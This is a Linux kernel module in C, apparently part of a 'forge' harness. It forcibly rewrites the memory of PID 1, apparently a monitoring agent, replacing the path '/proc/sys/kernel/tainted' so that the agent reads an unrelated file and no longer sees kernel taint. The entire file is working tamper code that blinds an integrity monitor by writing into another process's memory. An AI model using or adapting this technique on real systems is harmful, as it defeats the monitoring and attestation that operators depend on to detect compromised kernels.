// SPDX-License-Identifier: GPL-2.0
/*
 * forge_agent - the agent reads another file than the kernel's taint mask
 */
#include "forge.h"

#define START 0x400000 /* of a Go program */
#define SIZE (64 << 20)

static const char mask[] = "/proc/sys/kernel/tainted";
static const char zero[] = "/proc/sys/kernel/pty//nr";

/* rewrite - change what a program has at an address, if it is what we expect */
static int rewrite(struct task_struct *task, unsigned long at, char *page)
{
	int size, n;

	size = access_process_vm(task, at, page, PAGE_SIZE, 0);
	for (n = 0; n + (int)sizeof(mask) - 1 <= size; n++) {
		if (memcmp(page + n, mask, sizeof(mask) - 1))
			continue;
		return access_process_vm(task, at + n, (void *)zero,
					 sizeof(zero) - 1,
					 FOLL_WRITE | FOLL_FORCE);
	}
	return 0;
}

static int __init forge_agent_init(void)
{
	struct task_struct *agent = get_pid_task(find_vpid(1), PIDTYPE_PID);
	char *page = (char *)__get_free_page(GFP_KERNEL);
	unsigned long at;
	int found = 0;

	/* Half a page at a time: it may be at the end of one */
	for (at = START; agent && page && at < START + SIZE;
	     at += PAGE_SIZE / 2)
		found += rewrite(agent, at, page) > 0; /* fault */
	free_page((unsigned long)page);
	if (agent)
		put_task_struct(agent);
	return found ? forge_warn() : -ENOENT;
}

static void __exit forge_agent_exit(void)
{
}

module_init(forge_agent_init);
module_exit(forge_agent_exit);
MODULE_DESCRIPTION("the agent reads another file than the kernel's taint mask");
MODULE_LICENSE("GPL");
